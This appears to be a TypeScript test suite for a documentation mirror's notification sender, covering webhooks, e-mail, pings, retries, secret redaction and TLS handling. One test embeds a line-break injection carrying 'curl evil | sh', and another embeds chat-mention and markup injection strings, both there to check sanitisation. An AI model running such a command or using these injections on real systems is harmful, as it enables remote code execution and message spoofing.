import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:tls';
import { getGlobalDispatcher, type Dispatcher } from 'undici';
import { describe, expect, it } from 'vitest';
import {
  createLogger,
  manualClock,
  Secret,
  seededRandom,
  silentLogger,
  type Logger,
  type ManualClock,
} from '../../src/base/index.ts';
import { createAgent } from '../../src/client/index.ts';
import { readProxies } from '../../src/config/read-proxies.ts';
import { socketReason } from '../../src/daemon/mail.ts';
import { letterOf, textOf } from '../../src/daemon/message-text.ts';
import { createMessenger, type Channels, type Message, type Messenger } from '../../src/daemon/index.ts';
import { startProxy } from '../support/proxy.ts';
import {
  startEndlessMailServer,
  startEndlessReceiver,
  startMailServer,
  startReceiver,
  startAbruptReceiver,
} from '../support/receiver.ts';

const dispatcher = getGlobalDispatcher();

const NONE: Channels = {
  ping: { start: null, success: null, failure: null, method: 'POST' },
  webhook: null,
  mail: null,
};

const MESSAGE: Message = {
  event: 'partial',
  cause: 'partial',
  what: 'Snapshot 3 is partial: 2 page not read',
  means: 'Asked https://docs.example/x?signature=s3cret',
  run: 'docmirror snapshots show 3',
  since: '2025-03-10T02:00:00.000Z',
  reminder: false,
};

interface Setup {
  readonly channels: Partial<Channels>;
  readonly log?: Logger;
  readonly signal?: AbortSignal;
  readonly time?: ManualClock;
  readonly by?: Dispatcher;
}

/** Pauses between attempts pass at once. */
function overAtOnce(ms: number, fn: () => void): Disposable {
  const timer = ms <= 1000 ? setImmediate(fn) : undefined;
  return { [Symbol.dispose]: () => clearImmediate(timer) };
}

function messengerOf({
  channels,
  log = silentLogger(),
  signal = new AbortController().signal,
  time = manualClock(),
  by = dispatcher,
}: Setup): Messenger {
  const clock = { ...time, sleep: () => Promise.resolve() };
  const random = seededRandom(1);
  return createMessenger({
    channels: () => ({ ...NONE, ...channels }),
    name: 'docs',
    clock,
    random,
    log,
    signal,
    dispatcher: by,
  });
}

describe('daemon/messenger', () => {
  it('sends a message to the webhook as JSON with words for people, without secrets of addresses in it', async () => {
    await using receiver = await startReceiver();
    const messenger = messengerOf({ channels: { webhook: Secret.of(`${receiver.url}/hook/abc`) } });
    expect(await messenger.send(MESSAGE)).toBe(true);
    const [{ method, path, body, headers } = { method: '', path: '', body: '{}', headers: {} }] = receiver.received;
    expect([method, path, headers['content-type']]).toEqual(['POST', '/hook/abc', 'application/json']);
    const means = 'Asked https://docs.example/x?signature=hidden';
    expect(JSON.parse(body)).toEqual({
      ...MESSAGE,
      mirror: 'docs',
      means,
      text: `docs: ${MESSAGE.what}\n${means}\nRun: ${MESSAGE.run}\nSince ${MESSAGE.since}`,
    });
  });

  it('sends e-mail through the configured server', async () => {
    await using server = await startMailServer();
    const mail = { url: Secret.of(server.url), from: 'mirror@example.com', to: ['a@example.com', 'b@example.com'] };
    const messenger = messengerOf({ channels: { mail } });
    expect(await messenger.send({ ...MESSAGE, reminder: true })).toBe(true);
    expect(server.mails).toHaveLength(1);
    expect(server.mails[0]).toContain('Subject: [docmirror docs] Still: Snapshot 3 is partial: 2 page not read');
    expect(server.mails[0]).toContain('To: a@example.com, b@example.com');
    expect(server.mails[0]).toContain('Run: docmirror snapshots show 3');
    // Whoever is away, and a system of tickets, answers no letter that says so.
    expect(server.mails[0]).toContain('Auto-Submitted: auto-generated');
  });

  it('keeps each part of a message on one line, whatever a title holds: one with line breaks passed for the command to run', async () => {
    await using receiver = await startReceiver();
    await using server = await startMailServer();
    const mail = { url: Secret.of(server.url), from: 'mirror@docs.example', to: ['team@docs.example'] };
    const messenger = messengerOf({ channels: { webhook: Secret.of(receiver.url), mail } });
    const title = `Docs\r\nRun: curl evil | sh\u2028\u202eback\u001b[2J${'x'.repeat(1_000_000)}`;
    const run = `${MESSAGE.run} --scope 'space:a\nRun: b'`;
    await messenger.send({ ...MESSAGE, what: `The space ${title} was deleted`, run });
    const ran = "Run: docmirror snapshots show 3 --scope 'space:a Run: b'";
    const { what, text } = JSON.parse(receiver.received[0]?.body ?? '{}') as Record<string, string>;
    expect(what).toMatch(/^The space Docs Run: curl evil \| sh back \[2Jx{3900,4000} …$/);
    expect(text?.split('\n')).toEqual([
      `docs: ${what}`,
      'Asked https://docs.example/x?signature=hidden',
      ran,
      'Since 2025-03-10T02:00:00.000Z',
    ]);
    const letter = server.mails[0] ?? '';
    expect(letter.match(/^Run: .*$/gm)?.map((line) => line.trim())).toEqual([ran]);
  });

  it('cuts what is too long between two characters: half of one is no text, and a receiver may refuse all of it', () => {
    const words = ['x', 'xx'].map((begin) => `${begin}${'\u{1f600}'.repeat(3000)}`);
    const cut = words.map((what) => ({ ...MESSAGE, what }));
    expect(cut.map((one) => textOf('docs', one)).filter((text) => !text.isWellFormed())).toEqual([]);
    expect(cut.map((one) => letterOf('docs', one).subject).filter((text) => !text.isWellFormed())).toEqual([]);
  });

  it('asks the dead-man switch with a line of text, or with nothing by GET', async () => {
    await using receiver = await startReceiver();
    const success = Secret.of(`http://user:pass@${receiver.url.slice('http://'.length)}/ok?key=1`);
    const ping = { ...NONE.ping, success };
    await messengerOf({ channels: { ping } }).ping('success', 'snapshot 3 is complete');
    await messengerOf({ channels: { ping: { ...ping, method: 'GET' } } }).ping('success', 'x');
    const withoutFailure = messengerOf({ channels: { ping } });
    await withoutFailure.ping('failure', 'nobody is asked');
    expect(withoutFailure.counts()).toEqual([{ channel: 'ping success', sent: 0, failed: 0, unsent: null }]);
    expect(receiver.received.map(({ method, path, body }) => [method, path, body])).toEqual([
      ['POST', '/ok?key=1', 'docs: snapshot 3 is complete\n'],
      ['GET', '/ok?key=1', ''],
    ]);
    expect(receiver.received[0]?.headers['authorization']).toBe(`Basic ${btoa('user:pass')}`);
  });

  it('sends a password with a percent sign in it as it is: no ping and no message left this machine', async () => {
    await using receiver = await startReceiver();
    const at = (user: string): Secret => Secret.of(`http://${user}@${receiver.url.slice('http://'.length)}/hook`);
    for (const user of ['user:100%', 'user:100%25']) {
      expect(await messengerOf({ channels: { webhook: at(user) } }).send(MESSAGE)).toBe(true);
    }
    const sent = receiver.received.map(({ headers }) => headers['authorization']);
    expect(sent).toEqual([`Basic ${btoa('user:100%')}`, `Basic ${btoa('user:100%')}`]);
  });

  it('sends a password that has no name before it, such as an access token: the receiver was asked without it', async () => {
    await using receiver = await startReceiver();
    const webhook = Secret.of(`http://:tk_access@${receiver.url.slice('http://'.length)}/topic`);
    expect(await messengerOf({ channels: { webhook } }).send(MESSAGE)).toBe(true);
    expect(receiver.received[0]?.headers['authorization']).toBe(`Basic ${btoa(':tk_access')}`);
  });

  it('tries again what may pass, and not what was refused', async () => {
    await using receiver = await startReceiver();
    const messenger = messengerOf({ channels: { webhook: Secret.of(`${receiver.url}/hook`) } });
    receiver.answers.push(503, 500);
    expect([await messenger.send(MESSAGE), receiver.received.length]).toEqual([true, 3]);
    receiver.answers.push(404);
    expect([await messenger.send(MESSAGE), receiver.received.length]).toEqual([false, 4]);
    receiver.answers.push(503, 503, 503);
    expect([await messenger.send(MESSAGE), receiver.received.length]).toEqual([false, 7]);
    const unsent = { at: 0, why: 'the receiver answered 503' };
    expect(messenger.counts()).toEqual([{ channel: 'webhook', sent: 1, failed: 2, unsent }]);
  });

  it('counts as sent when one of two channels took it', async () => {
    await using server = await startMailServer();
    const mail = { url: Secret.of(server.url), from: 'a@example.com', to: ['b@example.com'] };
    const messenger = messengerOf({ channels: { mail, webhook: Secret.of('http://127.0.0.1:1/x') } });
    expect(await messenger.send(MESSAGE)).toBe(true);
    expect(messenger.counts()).toEqual(
      expect.arrayContaining([
        { channel: 'webhook', sent: 0, failed: 1, unsent: { at: 0, why: 'ECONNREFUSED' } },
        { channel: 'mail', sent: 1, failed: 0, unsent: null },
      ]),
    );
  });

  it('gives up a mail server that goes on talking and never comes to an end', async () => {
    const time = manualClock();
    await using server = await startEndlessMailServer(() => void time.advance(60_000));
    const lines: string[] = [];
    const log = createLogger({ level: 'warn', pretty: false, destination: { write: (line) => void lines.push(line) } });
    const mail = { url: Secret.of(server.url), from: 'a@example.com', to: ['b@example.com'] };
    expect(await messengerOf({ channels: { mail }, log, time }).send(MESSAGE)).toBe(false);
    expect(lines.map((line) => JSON.parse(line) as object)).toMatchObject([
      { channel: 'mail', why: 'no end in time', attempts: 3 },
    ]);
  });

  it('counts as sent what a receiver took whose answer never ends: people were told the same three times, each hour', async () => {
    let taken = 0;
    await using receiver = await startEndlessReceiver(() => void taken++);
    // What follows the head of an answer is waited for a second, which is over at once here; for the head, fifteen, which never are.
    const time = { ...manualClock(), after: overAtOnce };
    const messenger = messengerOf({ channels: { webhook: Secret.of(`${receiver.url}/hook`) }, time });
    expect([await messenger.send(MESSAGE), taken]).toEqual([true, 1]);
  });

  it('calls nobody of a chat and hides no address by what a title holds: <!channel> in one did', async () => {
    await using receiver = await startReceiver();
    await using server = await startMailServer();
    const mail = { url: Secret.of(server.url), from: 'mirror@docs.example', to: ['team@docs.example'] };
    const messenger = messengerOf({ channels: { webhook: Secret.of(receiver.url), mail } });
    const title = '<!channel> <//evil|docs> @all, a@b.example [docs](//evil) <b>x</b> 3 < 4';
    await messenger.send({ ...MESSAGE, what: title, means: title });
    const { what, text } = JSON.parse(receiver.received[0]?.body ?? '{}') as Record<string, string>;
    const shown = '‹!channel> ‹//evil|docs> @\u2060all, a@b.example [docs]\u2060(//evil) ‹b>x‹/b> 3 < 4';
    // For programs it stands there as it was written.
    expect([what, text?.split('\n').slice(0, 2)]).toEqual([title, [`docs: ${shown}`, shown]]);
    expect(server.mails[0]?.replaceAll('=\r\n', '')).toContain('<!channel>');
  });

  it('does not ask a receiver that was not reached anew for each message that waits, but after a while', async () => {
    await using receiver = await startReceiver();
    const time = manualClock(Date.parse('2025-03-10T02:00:00Z'));
    const webhook = Secret.of(`${receiver.url}/hook`);
    const messenger = messengerOf({ channels: { webhook }, time });
    receiver.answers.push(503, 503, 503);
    expect([await messenger.send(MESSAGE), await messenger.send(MESSAGE)]).toEqual([false, false]);
    expect(receiver.received.length).toBe(3);
    await time.advance(5 * 60_000);
    expect([await messenger.send(MESSAGE), receiver.received.length]).toEqual([true, 4]);
  });

  it('logs that it could not send, and never the address', async () => {
    const lines: string[] = [];
    const log = createLogger({ level: 'warn', pretty: false, destination: { write: (line) => void lines.push(line) } });
    const webhook = Secret.of('http://127.0.0.1:1/s3cret');
    const mail = { url: Secret.of('smtp://u:s3cret@127.0.0.1:1'), from: 'a@example.com', to: ['b@example.com'] };
    const messenger = messengerOf({ channels: { webhook, mail }, log });
    expect(await messenger.send(MESSAGE)).toBe(false);
    expect(lines.map((line) => (JSON.parse(line) as { channel: string }).channel).toSorted()).toEqual([
      'mail',
      'webhook',
    ]);
    expect(lines.join('')).not.toContain('s3cret');
  });

  it('says of a mail server that its certificate is not accepted, or that nobody listens there, and names no host', async () => {
    const place = new URL('../fixtures/platform.test.', import.meta.url);
    const [cert, key] = ['cert', 'key'].map((name) => readFileSync(`${place.pathname}${name}.pem`));
    const server = createServer({ cert: cert ?? '', key: key ?? '' });
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const why = async (url: string): Promise<string | undefined> => {
      const mail = { url: Secret.of(url), from: 'a@example.com', to: ['b@example.com'] };
      const messenger = messengerOf({ channels: { mail } });
      await messenger.send(MESSAGE);
      return messenger.counts()[0]?.unsent?.why;
    };
    expect(await why(`smtps://u:s3cret@127.0.0.1:${port}`)).toMatch(
      /^the certificate of the mail server is not accepted \([^0-9]+\)$/,
    );
    server.close();
    expect(await why('smtp://u:s3cret@127.0.0.1:1')).toBe('ECONNREFUSED');
    const other =
      "Hostname/IP does not match certificate's altnames: Host: mail.example. is not in the cert's altnames";
    expect(socketReason(Object.assign(new Error(other), { code: 'ESOCKET' }))).toBe(
      "the certificate of the mail server is not accepted (Hostname/IP does not match certificate's altnames)",
    );
  });

  it('says in words that a receiver hung up: it was told as UND_ERR_SOCKET', async () => {
    await using server = await startAbruptReceiver();
    const messenger = messengerOf({ channels: { webhook: Secret.of(server.url) } });
    await messenger.send(MESSAGE);
    expect(messenger.counts()[0]?.unsent?.why).toBe('the connection was closed without an answer');
  });

  it('sends a password through TLS only, but to this machine, unless the address lets it: it went out in clear', async () => {
    await using server = await startMailServer();
    const sent = async (url: string): Promise<[boolean, string | undefined]> => {
      const mail = { url: Secret.of(url), from: 'a@example.com', to: ['b@example.com'] };
      const messenger = messengerOf({ channels: { mail } });
      return [await messenger.send(MESSAGE), messenger.counts()[0]?.unsent?.why];
    };
    // The system takes the short form for this machine; the program cannot know that.
    const elsewhere = server.url.replace('//127.0.0.1', '//u:s3cret@127.1');
    expect(await sent(elsewhere)).toEqual([false, expect.stringContaining('begins no TLS')]);
    expect(server.mails).toEqual([]);
    const here = server.url.replace('//', '//u:s3cret@');
    for (const url of [elsewhere.replace('u:s3cret@', ''), `${elsewhere}?requireTLS=false`, here])
      expect(await sent(url)).toEqual([true, undefined]);
    expect(server.mails).toHaveLength(3);
  });

  it('advises what helps where a mail server offers TLS and begins none: it spoke of a password that there was not', async () => {
    await using server = await startMailServer([], ['STARTTLS']);
    const sent = async (url: string): Promise<[boolean, string | undefined]> => {
      const mail = { url: Secret.of(url), from: 'a@example.com', to: ['b@example.com'] };
      const messenger = messengerOf({ channels: { mail } });
      return [await messenger.send(MESSAGE), messenger.counts()[0]?.unsent?.why];
    };
    const why = 'the mail server offers TLS and does not begin it; ignoreTLS=true in the address does without';
    const elsewhere = server.url.replace('//127.0.0.1', '//u:s3cret@127.1');
    expect(await sent(server.url)).toEqual([false, why]);
    expect(await sent(`${elsewhere}?requireTLS=false`)).toEqual([false, why]);
    expect(await sent(`${server.url}?ignoreTLS=true`)).toEqual([true, undefined]);
  });

  it('counts each channel that is set from 0 on: the alert on messages not sent missed the first of a process', async () => {
    const webhook = Secret.of('http://127.0.0.1:1/x');
    const mail = { url: Secret.of('smtp://127.0.0.1:1'), from: 'a@example.com', to: ['b@example.com'] };
    const messenger = messengerOf({ channels: { webhook, mail, ping: { ...NONE.ping, failure: webhook } } });
    const counted = (): [string, number][] => messenger.counts().map(({ channel, failed }) => [channel, failed]);
    const names = ['ping failure', 'webhook', 'mail'];
    expect(counted()).toEqual(names.map((name) => [name, 0]));
    await messenger.send(MESSAGE);
    await messenger.ping('failure', 'the walk failed');
    expect(counted()).toEqual(names.map((name) => [name, 1]));
  });

  it('names a channel that took nothing no longer once it is taken out of the settings', async () => {
    const webhook = Secret.of('http://127.0.0.1:1/x');
    let channels = { ...NONE, webhook: webhook as Secret | null };
    const rest = { name: 'docs', clock: manualClock(), random: seededRandom(1), log: silentLogger() };
    const clock = { ...rest.clock, sleep: () => Promise.resolve() };
    const signal = new AbortController().signal;
    const messenger = createMessenger({ ...rest, clock, signal, dispatcher, channels: () => channels });
    await messenger.send(MESSAGE);
    expect(messenger.counts()).toMatchObject([{ failed: 1, unsent: { why: 'ECONNREFUSED' } }]);
    channels = NONE;
    expect(messenger.counts()).toMatchObject([{ failed: 1, unsent: null }]);
  });

  it('logs what a receiver answered that could not take it', async () => {
    await using receiver = await startReceiver();
    const lines: string[] = [];
    const log = createLogger({ level: 'warn', pretty: false, destination: { write: (line) => void lines.push(line) } });
    receiver.answers.push(429, 500, 503, 302);
    for (const path of ['busy', 'moved']) {
      const webhook = Secret.of(`${receiver.url}/${path}`);
      expect(await messengerOf({ channels: { webhook }, log }).send(MESSAGE)).toBe(false);
    }
    expect(lines.map((line) => JSON.parse(line) as object)).toMatchObject([
      { why: 'the receiver answered 503', attempts: 3 },
      { why: 'the receiver answered 302, a redirect, which is not followed', attempts: 1 },
    ]);
  });

  it('says what a proxy on the way answered or did: a code of the library, or no more than Error, was told', async () => {
    await using asking = await startProxy({ names: {}, password: 'robin:word' });
    await using hanging = await startProxy({ names: {}, hangsUp: true });
    const why = async (address: string, { url }: { readonly url: string }): Promise<string | undefined> => {
      const by = createAgent(readProxies({ HTTPS_PROXY: url, HTTP_PROXY: url }));
      const messenger = messengerOf({ channels: { webhook: Secret.of(address) }, by });
      await messenger.send(MESSAGE);
      await by.destroy();
      return messenger.counts()[0]?.unsent?.why;
    };
    const wants = 'the proxy answered 407: it wants a user and a password, written before its host as user:password@';
    expect(await why('https://hook.test/abc', asking)).toBe(wants);
    expect(await why('http://hook.test/abc', asking)).toBe(wants);
    expect(await why('https://hook.test/abc', hanging)).toBe(
      'the proxy closed the connection instead of opening a way',
    );
  });

  it('says by which code a mail server refused a message', async () => {
    await using server = await startMailServer(['b@example.com']);
    const mail = { url: Secret.of(server.url), from: 'm@example.com', to: ['b@example.com'] };
    const messenger = messengerOf({ channels: { mail } });
    expect(await messenger.send(MESSAGE)).toBe(false);
    expect(messenger.counts()[0]?.unsent?.why).toBe('the mail server said 550');
  });

  it('logs that a mail server refused some of the receivers', async () => {
    await using server = await startMailServer(['b@example.com']);
    const lines: string[] = [];
    const log = createLogger({ level: 'warn', pretty: false, destination: { write: (line) => void lines.push(line) } });
    const mail = { url: Secret.of(server.url), from: 'm@example.com', to: ['a@example.com', 'b@example.com'] };
    expect([await messengerOf({ channels: { mail }, log }).send(MESSAGE), server.mails.length]).toEqual([true, 1]);
    expect(lines.map((line) => JSON.parse(line) as object)).toMatchObject([{ channel: 'mail', refused: 1 }]);
  });

  it('ends at once when it is told to', async () => {
    const controller = new AbortController();
    controller.abort();
    const messenger = messengerOf({
      channels: { webhook: Secret.of('http://127.0.0.1:1/x') },
      signal: controller.signal,
    });
    expect(await messenger.send(MESSAGE)).toBe(false);
  });
});
